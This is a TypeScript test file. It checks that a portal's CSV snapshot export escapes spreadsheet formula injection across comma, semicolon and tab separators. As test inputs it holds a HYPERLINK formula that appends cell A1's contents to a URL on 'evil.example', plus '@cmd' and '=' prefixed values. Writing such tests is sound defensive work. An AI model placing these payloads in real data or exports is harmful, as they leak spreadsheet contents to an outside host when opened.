import { describe, expect, it } from 'vitest'
import { snapshotCsv } from './compare'
import type { PortalState } from './model'
import { HOSTILE_TITLE, readAsSpreadsheet, runsAsFormula } from '../outbox/testing/spreadsheet'

describe('a snapshot export in any spreadsheet', () => {
  const state: PortalState = {
    portalId: 'p1',
    sites: [{ id: 1, title: 'Site', scope: '', live: true }],
    folders: [],
    pages: [{ id: 12, title: HOSTILE_TITLE, scope: '', siteId: 1, folderId: null, live: true }],
    documents: [{ id: 5, title: '@cmd;-2+3', live: false }]
  } as unknown as PortalState
  const csv = snapshotCsv([state], () => 'Acme; =1')

  it('opens with the hostile page title in one cell when split on ;', () => {
    const rows = readAsSpreadsheet(csv, ';', 'anywhere')
    const page = rows.find((r) => r.join(';').includes('HYPERLINK'))
    expect(page).toHaveLength(1)
    expect(page?.[0]).toContain(`Promo;'=HYPERLINK("https://evil.example/?"&A1;"Click")`)
  })

  it.each([',', ';', '\t'])('runs no cell as a formula when split on %j, however quotes are read', (sep) => {
    for (const quotes of ['anywhere', 'at-start'] as const)
      expect(readAsSpreadsheet(csv, sep, quotes).flat().filter(runsAsFormula)).toEqual([])
  })
})
